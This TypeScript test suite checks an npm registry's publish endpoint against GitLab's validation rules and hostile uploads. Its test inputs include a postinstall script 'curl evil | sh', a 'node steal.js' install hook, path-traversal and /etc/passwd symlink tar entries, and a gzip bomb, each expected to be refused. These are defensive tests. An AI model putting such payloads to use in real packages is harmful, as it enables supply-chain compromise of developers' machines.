/**
 * `npm publish` through the project endpoint on SQLite and PostgreSQL: GitLab's validation messages and
 * statuses (docs/design/gitlab-compatibility.md#publish-checks), the hostile uploads of issue 3 — each refused with a 4xx and a clear message
 * and with nothing stored (no rows, no revision bump, no blob) — idempotent retries, concurrent publishes of one
 * version, the naming-convention rule, and `npm deprecate`.
 */
import assert from 'node:assert/strict';
import { randomBytes } from 'node:crypto';
import { Readable } from 'node:stream';
import { gzipSync } from 'node:zlib';
import { after, before, describe, it } from 'node:test';
import { ROOT_TOKEN, startApp, type TestApp } from '../helpers/app.js';
import { DIALECTS } from '../helpers/databases.js';
import {
  bearer,
  createNpmWorld,
  esc,
  makeTar,
  makeTgz,
  npmBase,
  packageState,
  publish,
  publishBody,
  published,
  refusedWithNothingStored,
  sha1Hex,
  sha512Sri,
  type NpmWorld,
} from '../helpers/npm.js';

const NAME = '@privgrp/widget';

/** A publish body whose attachment is `tgz` (hashes made to match, so only the archive itself is at fault). */
function bodyWithTarball(tgz: Buffer, version = '1.0.0', name = NAME) {
  return publishBody(name, version, { tgz }).body;
}

for (const dialect of DIALECTS) {
  describe(`npm publish [${dialect}]`, () => {
    let t: TestApp;
    let w: NpmWorld;
    let pid: number;
    const refused = async (body: unknown, status: number, message: RegExp, token: string | null = ROOT_TOKEN, urlName = NAME) => {
      const r = await refusedWithNothingStored(t, () => publish(t, pid, body, token, urlName));
      assert.equal(r.status, status, r.text);
      assert.match(String(r.body?.error ?? r.body?.message), message);
      // npm prints `error`; GitLab's npm shape carries the same text in `message`.
      if (r.body?.error !== undefined && r.body?.message !== undefined && status !== 413) assert.equal(r.body.error, r.body.message);
      return r;
    };

    before(async () => {
      t = await startApp(dialect);
      w = await createNpmWorld(t);
      pid = w.project.private;
    });
    after(async () => t.close());

    it('stores the exact uploaded bytes and answers GitLab’s package record', async () => {
      const { body, tgz } = publishBody(NAME, '1.0.0', { readme: '# Widget\n' });
      const r = await publish(t, pid, body, w.token.developer);
      assert.equal(r.status, 200, r.text);
      assert.equal(r.body.name, NAME);
      assert.equal(r.body.version, '1.0.0');
      assert.equal(r.body.package_type, 'npm');
      assert.equal(r.body.status, 'default');
      assert.equal(r.body.project_id, pid);
      const dl = await t.app.inject({ method: 'GET', url: `${npmBase(pid)}/${NAME}/-/${NAME}-1.0.0.tgz`, headers: bearer(w.token.developer) });
      assert.equal(dl.statusCode, 200);
      assert.ok(dl.rawPayload.equals(tgz), 'the downloaded tarball is byte-for-byte the uploaded one');
      const doc = (await t.call('GET', `${npmBase(pid)}/${esc(NAME)}`, { headers: bearer(w.token.developer) })).body;
      assert.equal(doc.versions['1.0.0'].dist.shasum, sha1Hex(tgz));
      assert.equal(doc.versions['1.0.0'].dist.integrity, sha512Sri(tgz));
      assert.equal(doc.versions['1.0.0']._npmUser.name, 'developer');
      assert.equal(doc.readme, '# Widget\n');
    });

    it('answers 200 to an identical retry (a lost response) and stores nothing new', async () => {
      const { body } = publishBody(NAME, '1.0.0', { readme: '# Widget\n' });
      const before = await packageState(t);
      const r = await publish(t, pid, body, w.token.developer);
      assert.equal(r.status, 200, r.text);
      assert.equal(r.body.version, '1.0.0');
      assert.deepEqual(await packageState(t), before);
    });

    it('refuses the same version with other bytes: 403 Package already exists.', async () => {
      const { body } = publishBody(NAME, '1.0.0', { extra: { description: 'different bytes' } });
      const r = await refused(body, 403, /^Package already exists\.$/);
      assert.deepEqual(r.body, { message: 'Package already exists.', error: 'Package already exists.' });
    });

    it('lets exactly one of several concurrent publishes of one version win', async () => {
      const bodies = [1, 2, 3, 4, 5].map((i) => publishBody(NAME, '2.0.0', { extra: { description: `racer ${i}` } }).body);
      const results = await Promise.all(bodies.map((b) => publish(t, pid, b, w.token.developer)));
      assert.deepEqual(
        results.map((r) => r.status).sort(),
        [200, 403, 403, 403, 403],
        results.map((r) => r.text).join('\n'),
      );
      const rows = await t.deps.database.db.selectFrom('packages').selectAll().where('name', '=', NAME).where('version', '=', '2.0.0').execute();
      assert.equal(rows.length, 1);
    });

    describe('GitLab’s checks (docs/design/gitlab-compatibility.md#publish-checks)', () => {
      it('a file larger than npm_max_file_size → 400 File is too large.', async () => {
        const set = await t.call('PUT', '/api/v4/application/settings', { token: ROOT_TOKEN, body: { npm_max_file_size: 100 } });
        assert.equal(set.status, 200, set.text);
        try {
          await refused(publishBody(NAME, '5.0.0').body, 400, /^File is too large\.$/);
          // A faked small `length` does not help: the size comes from the Base64 text.
          const faked = publishBody(NAME, '5.0.0').body;
          faked._attachments[`${NAME}-5.0.0.tgz`].length = 10;
          await refused(faked, 400, /^File is too large\.$/);
        } finally {
          await t.call('PUT', '/api/v4/application/settings', { token: ROOT_TOKEN, body: { npm_max_file_size: 524288000 } });
        }
      });
      it('an invalid name → 400 with GitLab’s message', async () => {
        for (const bad of ['@privgrp/wid!get', '@privgrp/~tilde', '@-bad/x', '@privgrp/a(b)', 'café']) {
          await refused(publishBody(bad, '1.0.0').body, 400, /Validation failed: Name should be a valid NPM package name/, ROOT_TOKEN, bad);
        }
      });
      it('an invalid version → 400 Version should follow SemVer', async () => {
        for (const bad of ['1', '1.2', 'v1.2.3', '01.2.3', '1./2.3']) {
          await refused(publishBody(NAME, bad).body, 400, /Validation failed: Version should follow SemVer: https:\/\/semver.org/);
        }
      });
      it('a version object over 20000 characters → 400 Package json structure is too large', async () => {
        const big = publishBody(NAME, '6.0.0', { extra: { keywords: Array.from({ length: 3000 }, (_, i) => `keyword-${i}`) } }).body;
        await refused(big, 400, /Package json structure is too large\. Maximum size is 20000 characters/);
      });
      it('a version object without dist.shasum → 400 Package json must be a valid json schema', async () => {
        const b = publishBody(NAME, '6.0.1').body;
        delete b.versions['6.0.1'].dist.shasum;
        await refused(b, 400, /Package json must be a valid json schema/);
      });
      it('a URL name that differs from the body’s → 400', async () => {
        await refused(publishBody(NAME, '6.0.2').body, 400, /package name in the URL \("@privgrp\/other"\) differs/, ROOT_TOKEN, '@privgrp/other');
      });
    });

    describe('hostile input (issue 3): 4xx, a clear message, nothing stored', () => {
      it('JSON body that is not an object', async () => {
        for (const body of ['"just a string"', '[1,2,3]', '42', 'not json at all']) {
          const r = await refusedWithNothingStored(t, () =>
            t.call('PUT', `${npmBase(pid)}/${esc(NAME)}`, { headers: { ...bearer(ROOT_TOKEN), 'content-type': 'application/json' }, body }),
          );
          assert.equal(r.status, 400, body);
          assert.match(r.body.error ?? r.body.message, /JSON object|not valid JSON/);
        }
      });
      it('versions missing, or not an object', async () => {
        const b = publishBody(NAME, '7.0.0').body;
        await refused({ ...b, versions: undefined }, 400, /Versions key is missing from the JSON upload/);
        await refused({ ...b, versions: ['7.0.0'] }, 400, /"versions" must be an object/);
        await refused({ ...b, versions: 'x' }, 400, /"versions" must be an object/);
        await refused({ ...b, versions: {} }, 400, /^Version is empty\.$/);
        await refused({ ...b, versions: { '7.0.0': 'nope' } }, 400, /"versions"\."7\.0\.0" must be an object/);
      });
      it('two versions in one publish', async () => {
        const a = publishBody(NAME, '7.0.0').body;
        const b = publishBody(NAME, '7.0.1').body;
        const both = { ...a, versions: { ...a.versions, ...b.versions }, _attachments: { ...a._attachments, ...b._attachments } };
        await refused(both, 400, /Only one version can be published at a time; the body has 2: 7\.0\.0, 7\.0\.1/);
      });
      it('attachment key not matching <name>-<version>.tgz, or missing data', async () => {
        const b = publishBody(NAME, '7.0.0').body;
        const att = b._attachments[`${NAME}-7.0.0.tgz`];
        await refused({ ...b, _attachments: { 'widget-7.0.0.tgz': att } }, 400, /Attachment data is empty\. Expected the tarball in _attachments\["@privgrp\/widget-7\.0\.0\.tgz"\] \(found "widget-7\.0\.0\.tgz"\)/);
        await refused({ ...b, _attachments: undefined }, 400, /Attachment data is empty/);
        await refused({ ...b, _attachments: { [`${NAME}-7.0.0.tgz`]: { ...att, data: '' } } }, 400, /Attachment data is empty/);
      });
      it('base64 garbage', async () => {
        const b = publishBody(NAME, '7.0.0').body;
        b._attachments[`${NAME}-7.0.0.tgz`].data = 'this is *not* base64!!';
        await refused(b, 400, /Attachment data is not valid base64/);
      });
      it('shasum, integrity or length that do not describe the attached bytes', async () => {
        const s = publishBody(NAME, '7.0.0').body;
        s.versions['7.0.0'].dist.shasum = '0'.repeat(40);
        await refused(s, 400, /dist\.shasum 0{40} does not match the attached tarball/);
        const i = publishBody(NAME, '7.0.0').body;
        i.versions['7.0.0'].dist.integrity = sha512Sri(Buffer.from('something else'));
        await refused(i, 400, /dist\.integrity does not match the attached tarball/);
        const l = publishBody(NAME, '7.0.0').body;
        l._attachments[`${NAME}-7.0.0.tgz`].length += 1;
        await refused(l, 400, /Attachment length \d+ does not match the decoded data/);
      });
      it('a non-gzip attachment (a plain tar)', async () => {
        const tar = makeTar([{ path: 'package/package.json', content: JSON.stringify({ name: NAME, version: '7.0.0' }) }]);
        await refused(bodyWithTarball(tar, '7.0.0'), 400, /Invalid package file: the attachment is not a gzip-compressed tarball/);
      });
      it('a truncated gzip', async () => {
        const full = makeTgz([
          { path: 'package/package.json', content: JSON.stringify({ name: NAME, version: '7.0.0' }) },
          { path: 'package/data.bin', content: randomBytes(64 * 1024) },
        ]);
        await refused(bodyWithTarball(full.subarray(0, Math.floor(full.length / 2)), '7.0.0'), 400, /Invalid package file: the gzip data is truncated or corrupt/);
      });
      it('gzip data that is not a tar archive', async () => {
        await refused(bodyWithTarball(gzipSync(Buffer.from('hello, this is not a tar archive at all'.repeat(40))), '7.0.0'), 400, /Invalid package file: not a valid tar archive/);
      });
      it('a gzip bomb', async () => {
        const bomb = makeTgz([
          { path: 'package/package.json', content: JSON.stringify({ name: NAME, version: '7.0.0' }) },
          { path: 'package/zeros.bin', content: Buffer.alloc(64 * 1024 * 1024) },
        ]);
        assert.ok(bomb.length < 200 * 1024, `the bomb is small when packed (${bomb.length} bytes)`);
        await refused(bodyWithTarball(bomb, '7.0.0'), 400, /decompression bomb/);
      });
      it('entries with ../, absolute paths, symlinks or hard links', async () => {
        const manifest = { path: 'package/package.json', content: JSON.stringify({ name: NAME, version: '7.0.0' }) };
        const cases: [Parameters<typeof makeTgz>[0][number], RegExp][] = [
          [{ path: 'package/../../etc/cron.d/evil', content: 'x' }, /entry "package\/\.\.\/\.\.\/etc\/cron\.d\/evil" points outside the package directory/],
          [{ path: '../evil.js', content: 'x' }, /points outside the package directory/],
          [{ path: '/etc/passwd', content: 'x' }, /entry "\/etc\/passwd" has an absolute path/],
          [{ path: 'package/link', type: '2', linkpath: '/etc/passwd' }, /entry "package\/link" is a symbolic link/],
          [{ path: 'package/hard', type: '1', linkpath: 'package/package.json' }, /entry "package\/hard" is a hard link/],
          [{ path: 'package/dev', type: '3' }, /unsupported type CharacterDevice/],
        ];
        for (const [entry, message] of cases) await refused(bodyWithTarball(makeTgz([manifest, entry]), '7.0.0'), 400, message);
      });
      it('a missing package.json, an oversized one, a broken one, or two of them', async () => {
        await refused(bodyWithTarball(makeTgz([{ path: 'package/index.js', content: '1' }]), '7.0.0'), 400, /package\.json not found: the tarball must contain package\/package\.json/);
        await refused(bodyWithTarball(makeTgz([{ path: 'other/lib/package.json', content: '{}' }]), '7.0.0'), 400, /package\.json not found: the tarball must contain other\/package\.json/);
        const huge = JSON.stringify({ name: NAME, version: '7.0.0', blob: randomBytes(2_200_000).toString('hex') });
        await refused(bodyWithTarball(makeTgz([{ path: 'package/package.json', content: huge }]), '7.0.0'), 400, /package\.json file too large: \d+ bytes \(the limit is 4194304\)/);
        await refused(bodyWithTarball(makeTgz([{ path: 'package/package.json', content: '{"name":' }]), '7.0.0'), 400, /package\/package\.json is not valid JSON/);
        const twice = makeTgz([
          { path: 'package/package.json', content: JSON.stringify({ name: NAME, version: '7.0.0' }) },
          { path: 'package/package.json', content: JSON.stringify({ name: NAME, version: '7.0.0', scripts: { postinstall: 'curl evil | sh' } }) },
        ]);
        await refused(bodyWithTarball(twice, '7.0.0'), 400, /package\/package\.json appears more than once/);
      });
      it('a tarball whose package.json disagrees with the body on name, version or scripts', async () => {
        const tgzFor = (m: Record<string, unknown>) => makeTgz([{ path: 'package/package.json', content: JSON.stringify(m) }]);
        await refused(bodyWithTarball(tgzFor({ name: '@privgrp/other', version: '7.0.0' }), '7.0.0'), 400, /Package manifest is not coherent: the tarball's package\.json has name "@privgrp\/other"/);
        await refused(bodyWithTarball(tgzFor({ name: NAME, version: '7.0.1' }), '7.0.0'), 400, /Package manifest is not coherent: .*version "7\.0\.1"/);
        await refused(
          bodyWithTarball(tgzFor({ name: NAME, version: '7.0.0', scripts: { postinstall: 'node steal.js' } }), '7.0.0'),
          400,
          /Package manifest is not coherent: the scripts/,
        );
      });
      it('a body over the route limit → 413 (by Content-Length, and while streaming)', async () => {
        const set = await t.call('PUT', '/api/v4/application/settings', { token: ROOT_TOKEN, body: { npm_max_file_size: 1000 } });
        assert.equal(set.status, 200);
        try {
          const b = publishBody(NAME, '8.0.0').body;
          b.readme = 'x'.repeat(1100 * 1024);
          const r = await refusedWithNothingStored(t, () => publish(t, pid, b, ROOT_TOKEN));
          assert.equal(r.status, 413, r.text);
          assert.match(r.body.error, /request body is larger than \d+ bytes/);
          // Chunked, with no Content-Length to refuse up front.
          const before = await packageState(t);
          const res = await t.app.inject({
            method: 'PUT',
            url: `${npmBase(pid)}/${esc(NAME)}`,
            headers: { ...bearer(ROOT_TOKEN), 'content-type': 'application/json', 'transfer-encoding': 'chunked' },
            payload: Readable.from(
              (function* () {
                for (let i = 0; i < 30; i++) yield Buffer.from(`${i === 0 ? '{"pad":"' : ''}${'y'.repeat(64 * 1024)}`);
                yield Buffer.from('"}');
              })(),
            ),
          });
          assert.equal(res.statusCode, 413, res.body);
          assert.deepEqual(await packageState(t), before);
        } finally {
          await t.call('PUT', '/api/v4/application/settings', { token: ROOT_TOKEN, body: { npm_max_file_size: 524288000 } });
        }
      });
    });

    it('accepts what npm itself rewrites between package.json and the body (cleaned version, implied scripts)', async () => {
      const raw = { name: NAME, version: 'v9.0.0+build.7', scripts: { test: 'node_modules/.bin/tap' } };
      const tgz = makeTgz([
        { path: 'package/package.json', content: JSON.stringify(raw) },
        { path: 'package/binding.gyp', content: '{}' },
        { path: 'package/server.js', content: '' },
      ]);
      const b = publishBody(NAME, '9.0.0', { tgz, extra: { scripts: { test: 'tap', install: 'node-gyp rebuild', start: 'node server.js' } } }).body;
      const r = await publish(t, pid, b, w.token.developer);
      assert.equal(r.status, 200, r.text);
      const doc = (await t.call('GET', `${npmBase(pid)}/${esc(NAME)}`, { headers: bearer(w.token.developer) })).body;
      assert.equal(doc.versions['9.0.0'].hasInstallScript, true, 'GitLab adds hasInstallScript for install scripts');
      assert.equal(doc.versions['9.0.0'].dist.fileCount, 3);
    });

    it('naming convention: a scope equal to the root namespace is unique by name and version across its projects', async () => {
      // GitLab's rule, under which one name may live in several projects of a root (Wharf's default is stricter:
      // a name belongs to one project, see package-names.test.ts).
      const shared = (on: boolean) => t.call('PUT', '/api/v4/application/settings', { token: ROOT_TOKEN, body: { npm_package_names_shared_across_projects: on } });
      assert.equal((await shared(true)).status, 200);
      try {
        // `everyone` lives under privgrp too: @privgrp/widget@1.0.0 already exists in the private project.
        const r = await refusedWithNothingStored(t, () => publish(t, w.project.everyone, publishBody(NAME, '1.0.0').body));
        assert.equal(r.status, 400);
        assert.deepEqual(r.body, { message: 'Validation failed: Package already exists', error: 'Validation failed: Package already exists' });
        // A new version is fine, and names outside the convention may repeat freely.
        assert.equal((await publish(t, w.project.everyone, publishBody(NAME, '1.0.1').body)).status, 200);
        await published(t, w.project.private, '@elsewhere/widget', '1.0.0');
        await published(t, w.project.everyone, '@elsewhere/widget', '1.0.0');
        await published(t, w.project.public, 'unscoped-widget', '1.0.0');
        await published(t, w.project.internal, 'unscoped-widget', '1.0.0');
      } finally {
        await shared(false);
      }
    });

    describe('npm deprecate (docs/design/gitlab-compatibility.md#deprecation)', () => {
      const deprecate = (versions: Record<string, unknown>, token = w.token.maintainer, command = 'deprecate') =>
        t.call('PUT', `${npmBase(pid)}/${esc(NAME)}`, { headers: { ...bearer(token), 'npm-command': command }, body: { _id: NAME, name: NAME, versions } });
      const doc = async () => (await t.call('GET', `${npmBase(pid)}/${esc(NAME)}`, { headers: bearer(w.token.guest) })).body;

      it('sets the message on the listed versions only, and the status to deprecated', async () => {
        const r = await deprecate({ '1.0.0': { version: '1.0.0', deprecated: 'use 2.x' }, '2.0.0': { version: '2.0.0' }, '9.9.9': { deprecated: 'ghost' } });
        assert.equal(r.status, 200, r.text);
        const d = await doc();
        assert.equal(d.versions['1.0.0'].deprecated, 'use 2.x');
        assert.equal(d.versions['2.0.0'].deprecated, undefined);
        const row = await t.deps.database.db.selectFrom('packages').select('status').where('name', '=', NAME).where('version', '=', '1.0.0').executeTakeFirstOrThrow();
        assert.equal(row.status, 'deprecated');
        // Deprecated versions stay installable.
        assert.equal((await t.app.inject({ method: 'GET', url: `${npmBase(pid)}/${NAME}/-/${NAME}-1.0.0.tgz`, headers: bearer(w.token.guest) })).statusCode, 200);
      });
      it('an empty message (npm undeprecate) removes it', async () => {
        const r = await deprecate({ '1.0.0': { deprecated: '' } }, w.token.maintainer, 'undeprecate');
        assert.equal(r.status, 200, r.text);
        assert.equal((await doc()).versions['1.0.0'].deprecated, undefined);
        const row = await t.deps.database.db.selectFrom('packages').select('status').where('name', '=', NAME).where('version', '=', '1.0.0').executeTakeFirstOrThrow();
        assert.equal(row.status, 'default');
      });
      it('no version to deprecate → 400 "package versions to deprecate" not given', async () => {
        const r = await refusedWithNothingStored(t, () => deprecate({ '1.0.0': { version: '1.0.0' } }));
        assert.equal(r.status, 400);
        assert.deepEqual(r.body, {
          message: '400 Bad request - "package versions to deprecate" not given',
          error: '"package versions to deprecate" not given',
        });
      });
      it('an identical message changes nothing (no revision bump)', async () => {
        assert.equal((await deprecate({ '2.0.0': { deprecated: 'same' } })).status, 200);
        const before = await packageState(t);
        assert.equal((await deprecate({ '2.0.0': { deprecated: 'same' } })).status, 200);
        assert.deepEqual(await packageState(t), before);
      });
    });
  });
}
